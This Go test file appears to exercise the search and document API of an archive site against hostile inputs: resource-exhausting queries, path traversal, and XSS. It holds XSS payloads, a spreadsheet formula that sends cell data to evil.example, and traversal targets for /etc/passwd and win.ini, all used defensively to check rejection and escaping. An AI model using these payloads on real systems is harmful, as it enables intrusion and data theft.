package site

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/archivio/archivio/indexer"
)

// hXSSTitle is a title that would run script if a page or the API ever
// printed it unescaped.
const hXSSTitle = `<script>alert("t")</script><img src=x onerror=alert(1)> & "quotes"`

// hFormulaTitle is a title a spreadsheet would run as a formula.
const hFormulaTitle = `=HYPERLINK("http://evil.example/?x="&A1,"formula")`

// hWords are the words generated documents are made of.
var hWords = strings.Fields(`digital public administration innovation transparency open government data
citizens participation municipalities regions services interoperability procurement budget accountability
cohesion policy local authorities europe committee opinion rapporteur recommendation platform cloud security
privacy identity signature education health mobility energy climate water housing culture tourism agriculture`)

// hCorpus makes a corpus of n Markdown documents with front matter:
// opinions, factsheets and pages in English and Italian, some with hostile
// titles, tags and bodies.
func hCorpus(n int, seed uint64) fstest.MapFS {
	rng := rand.New(rand.NewPCG(seed, 1))
	kinds := []string{"opinion", "factsheet", "page"}
	fsys := fstest.MapFS{}
	for i := range n {
		kind := kinds[i%len(kinds)]
		var title strings.Builder
		for range 4 + rng.IntN(5) {
			title.WriteString(hWords[rng.IntN(len(hWords))] + " ")
		}
		t := strings.TrimSpace(title.String())
		tags := fmt.Sprintf("[%s, %s]", hWords[rng.IntN(len(hWords))], hWords[rng.IntN(len(hWords))])
		extra := ""
		if i%50 == 7 {
			t = hXSSTitle
			tags = `["<b>bold</b>", "a&b"]`
			extra = "\n<script>alert('body')</script> digital <iframe src=javascript:alert(1)></iframe>\n"
		}
		if i%50 == 13 {
			t = hFormulaTitle
		}
		var body strings.Builder
		for p := range 3 + rng.IntN(4) {
			fmt.Fprintf(&body, "%d. ", p+1)
			for range 20 + rng.IntN(40) {
				body.WriteString(hWords[rng.IntN(len(hWords))] + " ")
			}
			body.WriteString(".\n\n")
		}
		lang := "en"
		if i%4 == 3 {
			lang = "it"
		}
		name := fmt.Sprintf("%ss/doc-%04d.md", kind, i)
		fsys[name] = &fstest.MapFile{Data: fmt.Appendf(nil,
			"---\ntitle: %q\nkind: %s\nlanguage: %s\ndate: %d-%02d-%02d\ncommission: %s\ntags: %s\n---\n# %s\n\n%s%s",
			t, kind, lang, 2010+i%15, 1+i%12, 1+i%28, []string{"ECON", "SEDEC", "COTER", "NAT"}[i%4], tags, t, extra, body.String())}
	}
	return fsys
}

// hBuildIndex builds an index of corpus in a temporary folder.
func buildIndex(t testing.TB, corpus fs.FS) (*indexer.Index, indexer.Summary) {
	t.Helper()
	ctx := context.Background()
	ix, err := indexer.Open(ctx, indexer.Config{Path: filepath.Join(t.TempDir(), "index")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ix.Close() })
	sum, err := ix.Sync(ctx, corpus)
	if err != nil {
		t.Fatal(err)
	}
	return ix, sum
}

// hIndex builds an index of corpus, every file of which must be archived.
func hIndex(t testing.TB, corpus fstest.MapFS) *indexer.Index {
	t.Helper()
	ix, sum := buildIndex(t, corpus)
	if sum.Failed > 0 {
		t.Fatalf("Sync: %d files failed: %+v", sum.Failed, sum.Problems)
	}
	return ix
}

// hServer serves an index of a generated corpus of n documents.
func hServer(t testing.TB, n int, cfg Config) (*Server, *indexer.Index) {
	t.Helper()
	ix := hIndex(t, hCorpus(n, 42))
	cfg.Archive = ix
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s, ix
}

// hget sends a GET for target, which may hold hostile escapes, to h.
func hget(t testing.TB, h http.Handler, target string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, "/", nil)
	// NewRequest rejects some hostile targets; set the raw URL by hand.
	u, err := url.ParseRequestURI(target)
	if err != nil {
		u = &url.URL{Path: target}
	}
	req.URL = u
	req.RequestURI = target
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	return w
}

// hJSONError returns the "error" field of a JSON error body, failing the test
// when the body is not one.
func hJSONError(t testing.TB, w *httptest.ResponseRecorder) string {
	t.Helper()
	if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type = %q, want application/json", ct)
	}
	var body struct {
		Error string `json:"error"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &body); err != nil {
		t.Fatalf("body is not JSON: %v\n%.300s", err, w.Body.String())
	}
	if body.Error == "" {
		t.Errorf("JSON body has no error: %.300s", w.Body.String())
	}
	return body.Error
}

// TestQueriesOfDeath sends hostile searches through the HTTP API: each gets
// a 400 with a JSON error that says why, or a 200 with results.
func TestQueriesOfDeath(t *testing.T) {
	s, _ := hServer(t, 300, Config{})
	h := s.Handler()
	q := url.QueryEscape
	many := func(word string, n int) string { return strings.TrimSpace(strings.Repeat(word+" ", n)) }
	tests := []struct {
		name   string
		target string
		status int
		errHas string // part of the error message (400s)
	}{
		{"regexp dot star", "/api/search?q=" + q(".*"), 400, "at least 3 letters"},
		{"regexp slashes", "/api/search?q=" + q("/.*/"), 400, "only at the end"},
		{"regexp class", "/api/search?q=" + q("/[a-z]+/"), 200, ""},
		{"inner wildcards", "/api/search?q=" + q("*a*b*c*"), 400, "only at the end"},
		{"leading wildcard", "/api/search?q=" + q("*digital"), 400, "only at the end"},
		{"question mark is punctuation", "/api/search?q=" + q("what is digital?"), 200, ""},
		{"short prefix", "/api/search?q=" + q("a*"), 400, "at least 3 letters"},
		{"prefix of punctuation", "/api/search?q=" + q("a..*"), 400, "at least 3 letters"},
		{"good prefix", "/api/search?q=" + q("digi*"), 200, ""},
		{"10000 terms", "/api/search?q=" + q(many("x", 10000)), 400, "limit is 1000"},
		{"20000 terms", "/api/search?q=" + q(many("xy", 20000)), 414, "query string"},
		{"4000 terms under the URL limit", "/api/search?q=" + many("x", 4000), 400, "limit is 1000"},
		{"33 terms", "/api/search?q=" + q(many("digital", 33)), 400, "limit is 32"},
		{"32 terms", "/api/search?q=" + q(many("digital", 32)), 200, ""},
		{"fuzzy on 30 one-letter words", "/api/search?q=" + q(many("w~2", 30)), 400, "at least 3 letters"},
		{"fuzzy on 30 words", "/api/search?q=" + q(many("data~2", 30)), 400, "limit is 8"},
		{"fuzzy on 8 words", "/api/search?q=" + q(many("dta~2", 8)), 200, ""},
		{"8 different fuzzy words", "/api/search?q=" + q("dgital~2 pblic~2 dta~2 opn~2 govrnment~2 cty~2 regons~2 budgt~2"), 200, ""},
		{"prefixes on 9 words", "/api/search?q=" + q(many("dig*", 9)), 400, "limit is 8"},
		{"fuzziness 3", "/api/search?q=" + q("digital~3"), 400, "at most 2 edits"},
		{"fuzziness not a number", "/api/search?q=" + q("digital~x"), 400, "number of edits"},
		{"1 MB q", "/api/search?q=" + strings.Repeat("a", 1<<20), 414, "query string"},
		{"1001 byte q", "/api/search?q=" + strings.Repeat("a", 1001), 400, "limit is 1000"},
		{"size 1000000", "/api/search?q=digital&size=1000000", 400, "limit is 100"},
		{"size 0 counts only", "/api/search?q=digital&size=0", 200, ""},
		{"size 0 deep page", "/api/search?q=digital&size=0&page=10000000", 400, "too deep"},
		{"size negative", "/api/search?q=digital&size=-5", 400, "at least 0"},
		{"page 10000000", "/api/search?q=digital&page=10000000", 400, "too deep"},
		{"page beyond int", "/api/search?q=digital&page=99999999999999999999999", 400, "whole number"},
		{"deepest page allowed", "/api/search?q=digital&page=100&size=100", 200, ""},
		{"one page too deep", "/api/search?q=digital&page=101&size=100", 400, "too deep"},
		{"from not a date", "/api/search?q=digital&from=notadate", 400, "not a date"},
		{"to before from", "/api/search?from=2020&to=2010", 400, "before it starts"},
		{"year 0", "/api/search?q=digital&to=0000", 200, ""},
		{"year 9999", "/api/search?q=digital&from=9999", 200, ""},
		{"years 0 to 9999", "/api/search?from=0000-01-01&to=9999-12-31", 200, ""},
		{"unknown parameter", "/api/search?q=digital&frobnicate=1", 400, "unknown parameter"},
		{"unknown facet in query", "/api/search?q=" + q("nosuchfacet:x digital"), 200, ""},
		{"sort unknown", "/api/search?q=digital&sort=random", 400, "relevance or date"},
		{"NUL byte", "/api/search?q=digital%00public", 200, ""},
		{"NUL only", "/api/search?q=%00", 200, ""},
		{"invalid UTF-8", "/api/search?q=%ff%fe%fd", 200, ""},
		{"invalid UTF-8 in word", "/api/search?q=dig%ffital", 200, ""},
		{"invalid UTF-8 filter", "/api/search?kind=%ff", 200, ""},
		{"control characters", "/api/search?q=%01%02%1b%5b31m", 200, ""},
		{"bad percent escape", "/api/search?q=%zz", 400, ""},
		{"bad percent escape in a JSON download", "/search.json?q=%zz", 400, ""},
		{"semicolon in a CSV download", "/search.csv?q=a;b", 400, ""},
		{"65 filter values", "/api/search?" + strings.Repeat("tag=x&", 65), 400, "limit is 64"},
		{"unbalanced quote", "/api/search?q=" + q(`"digital public`), 200, ""},
		{"only operators", "/api/search?q=" + q(`- + "" ~ * ( ) [ ] { } ^ !`), 400, "at least 3 letters"},
		{"boolean syntax", "/api/search?q=" + q("digital AND (public OR NOT data)"), 200, ""},
		{"field syntax of bleve", "/api/search?q=" + q("+_all:digital _id:x^100"), 200, ""},
		{"only negations", "/api/search?q=" + q("-digital -public"), 200, ""},
		{"documents with q", "/api/documents?q=digital", 400, "only browses"},
		{"documents too deep", "/api/documents?page=2000", 400, "too deep"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w := hget(t, h, tc.target)
			t.Logf("GET %.80s -> %d %.120s", tc.target, w.Code, strings.Join(strings.Fields(w.Body.String()), " "))
			if w.Code != tc.status {
				t.Fatalf("GET %.100s: status %d, want %d; body %.300s", tc.target, w.Code, tc.status, w.Body.String())
			}
			if w.Code != http.StatusOK {
				msg := hJSONError(t, w)
				if !strings.Contains(msg, tc.errHas) {
					t.Errorf("error %q does not contain %q", msg, tc.errHas)
				}
				return
			}
			var res struct {
				Total *int              `json:"total"`
				Hits  []json.RawMessage `json:"hits"`
			}
			if err := json.Unmarshal(w.Body.Bytes(), &res); err != nil || res.Total == nil {
				t.Fatalf("200 body is not a search response (%v): %.300s", err, w.Body.String())
			}
		})
	}
}

// TestPathTraversal tries to climb out of every path parameter: the answer
// is a 404, 400 or a redirect to a cleaned path, never a file's contents.
func TestPathTraversal(t *testing.T) {
	s, _ := hServer(t, 10, Config{})
	h := s.Handler()
	targets := []string{
		"/api/documents/..%2F..%2Fetc%2Fpasswd",
		"/api/documents/..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
		"/api/documents/%2e%2e%2f%2e%2e%2fgo.mod",
		"/api/documents/../../etc/passwd",
		"/api/documents/..",
		"/api/documents/%2e%2e",
		"/api/documents/....%2F%2F....%2F%2Fetc%2Fpasswd",
		"/api/documents/%252e%252e%252fetc%252fpasswd",
		"/api/documents/..%5c..%5cwindows%5cwin.ini",
		"/api/documents/%00",
		"/api/documents/x%00.md",
		"/api/documents/" + strings.Repeat("a", 5000),
		"/documents/%2e%2e/%2e%2e/etc/passwd",
		"/documents/..%2F..%2Fgo.mod",
		"/documents/../../go.mod",
		"/static/../go.mod",
		"/static/..%2Fgo.mod",
		"/static/%2e%2e/%2e%2e/go.mod",
		"/static/..%2F..%2F..%2Fetc%2Fpasswd",
		"/static/%c0%ae%c0%ae/go.mod",
		"/static/%ff%fe",
		"/api/documents/%ff",
		"/feed.xml/../../go.mod",
		"/api/files?state=../../etc/passwd",
		"/api/../go.mod",
		"/..%2Fgo.mod",
		"/etc/passwd",
	}
	for _, target := range targets {
		w := hget(t, h, target)
		t.Logf("GET %.70s -> %d %s", target, w.Code, w.Header().Get("Location"))
		switch w.Code {
		case http.StatusNotFound, http.StatusBadRequest, http.StatusMovedPermanently:
		case http.StatusOK:
			// Only an API list answer (an empty one) may be 200.
			if !strings.HasPrefix(target, "/api/files") || strings.TrimSpace(w.Body.String()) != "[]" {
				t.Errorf("GET %s: 200 %.200s", target, w.Body.String())
			}
		default:
			t.Errorf("GET %s: status %d, want 404, 400 or 301", target, w.Code)
		}
		body := w.Body.String()
		for _, leak := range []string{"root:x:0", "module github.com/archivio", "[fonts]", "package site"} {
			if strings.Contains(body, leak) {
				t.Errorf("GET %s leaked file contents (%q)", target, leak)
			}
		}
		if loc := w.Header().Get("Location"); loc != "" && (slices.Contains(strings.Split(loc, "/"), "..") || strings.HasPrefix(loc, "//")) {
			t.Errorf("GET %s redirects to %q", target, loc)
		}
		if w.Code != http.StatusMovedPermanently && w.Code != http.StatusOK && strings.HasPrefix(target, "/api/") {
			hJSONError(t, w)
		}
	}
}

// TestXSSThroughAPI indexes documents whose titles, tags and bodies hold
// markup, and checks that the API never returns it unescaped: JSON escapes
// < > & and snippets are HTML-escaped with only <mark> added.
func TestXSSThroughAPI(t *testing.T) {
	s, _ := hServer(t, 60, Config{})
	h := s.Handler()
	for _, tc := range []struct {
		target string
		status int
	}{
		{"/api/search?q=script", 200},
		{"/api/search?q=alert", 200},
		{"/api/search?q=" + url.QueryEscape(`"onerror alert"`), 200},
		{"/api/search?q=iframe+javascript", 200},
		{"/api/search?q=digital&size=50", 200},
		{"/api/search?tag=" + url.QueryEscape("<b>bold</b>"), 200},
		{"/api/documents?size=50", 200},
		{"/api/documents/factsheets.doc-0007", 200}, // the hostile documents (i%50 == 7)
		{"/api/documents/opinions.doc-0057", 200},
		{"/api/search?q=" + url.QueryEscape("<script>alert(1)</script>"), 200},
		{"/api/search?q=%3Cscript%3E&from=%3Cimg%3E", 400},
		{"/api/nosuch/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404},
	} {
		target := tc.target
		w := hget(t, h, target)
		if w.Code != tc.status {
			t.Errorf("GET %s: status %d, want %d", target, w.Code, tc.status)
		}
		body := w.Body.String()
		for _, raw := range []string{"<script", "<img", "<iframe", "<b>", "</script"} {
			if strings.Contains(strings.ToLower(body), raw) {
				t.Errorf("GET %s: body holds raw %q: %.300s", target, raw, body)
			}
		}
		if !json.Valid(w.Body.Bytes()) {
			t.Errorf("GET %s: body is not JSON", target)
		}
		var res struct {
			Hits []struct {
				Title    string   `json:"title"`
				Snippets []string `json:"snippets"`
			} `json:"hits"`
		}
		if json.Unmarshal(w.Body.Bytes(), &res) != nil {
			continue
		}
		for _, hit := range res.Hits {
			for _, sn := range hit.Snippets {
				rest := strings.NewReplacer("<mark>", "", "</mark>", "").Replace(sn)
				if strings.ContainsAny(rest, "<>") {
					t.Errorf("GET %s: snippet of %q has markup besides <mark>: %q", target, hit.Title, sn)
				}
			}
		}
	}
	// The hostile document is found, and its title comes back intact once decoded.
	w := hget(t, h, "/api/documents/factsheets.doc-0007")
	var doc struct {
		Title string   `json:"title"`
		Tags  []string `json:"tags"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &doc); err != nil || w.Code != http.StatusOK {
		t.Fatalf("GET hostile document: %d %v", w.Code, err)
	}
	if doc.Title != hXSSTitle || len(doc.Tags) != 2 || doc.Tags[0] != "<b>bold</b>" {
		t.Errorf("hostile document: title %q tags %q, want %q and [<b>bold</b> a&b]", doc.Title, doc.Tags, hXSSTitle)
	}
	w = hget(t, h, "/api/search?q=alert")
	var res struct {
		Total int `json:"total"`
		Hits  []struct {
			Snippets []string `json:"snippets"`
		} `json:"hits"`
	}
	json.Unmarshal(w.Body.Bytes(), &res)
	if res.Total == 0 || len(res.Hits[0].Snippets) == 0 || !strings.Contains(res.Hits[0].Snippets[0], "&lt;") {
		t.Errorf("search for alert: %d hits, snippets %v; want the hostile documents with escaped snippets", res.Total, res.Hits)
	}
}
